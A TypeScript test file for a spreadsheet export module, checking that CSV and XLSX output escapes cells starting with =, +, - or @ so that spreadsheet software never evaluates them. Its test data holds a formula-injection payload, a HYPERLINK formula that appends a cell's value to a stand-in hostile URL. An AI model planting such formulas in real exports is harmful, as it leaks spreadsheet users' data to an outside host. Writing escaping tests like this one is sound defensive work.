import { parse } from 'csv-parse/sync'
import { unzipSync } from 'fflate'
import { readXlsx } from 'hucre'
import type { Readable } from 'node:stream'
import { expect, it } from 'vitest'
import { type Column, csvStream, xlsxStream } from './spreadsheet.ts'

const columns: Column[] = [
  { header: '=Kód', kind: 'text' },
  { header: 'Den', kind: 'day' },
  { header: 'Částka', kind: 'amount' },
  { header: 'Kusů', kind: 'count' },
]
async function* rows() {
  yield ['Pivo\n=HYPERLINK("https://zly.example/"&A1;"10°")', '2026-11-20', -1234.5, -3]
  yield ['+420 777 123 456', null, null, 0]
}
const safe = `Pivo\n'=HYPERLINK("https://zly.example/"&A1;"10°")`
const bytesOf = async (stream: Readable) => Buffer.concat(await stream.toArray())

it('writes CSV in which texts are never calculated and numbers stay numbers', async () => {
  const text = (await bytesOf(csvStream(columns, rows()))).toString()
  expect(text.split('\n').filter((line) => /^\s*[=+\-@]/.test(line))).toEqual([])
  expect(parse(text, { delimiter: ';', bom: true })).toEqual([
    ["'=Kód", 'Den', 'Částka', 'Kusů'],
    [safe, '2026-11-20', '-1234,50', '-3'],
    ["'+420 777 123 456", '', '', '0'],
  ])
})

it('writes a workbook in which texts are never calculated and numbers stay numbers', async () => {
  const bytes = await bytesOf(xlsxStream('Sešit', columns, rows()))
  expect((await readXlsx(bytes)).sheets[0]?.rows).toEqual([
    ["'=Kód", 'Den', 'Částka', 'Kusů'],
    [safe, new Date('2026-11-20T00:00:00Z'), -1234.5, -3],
    ["'+420 777 123 456", null, null, 0],
  ])
  const sheet = Buffer.from(unzipSync(bytes)['xl/worksheets/sheet1.xml'] ?? []).toString()
  expect(sheet).toContain('t="inlineStr"')
  expect(sheet).not.toContain('<f')
})
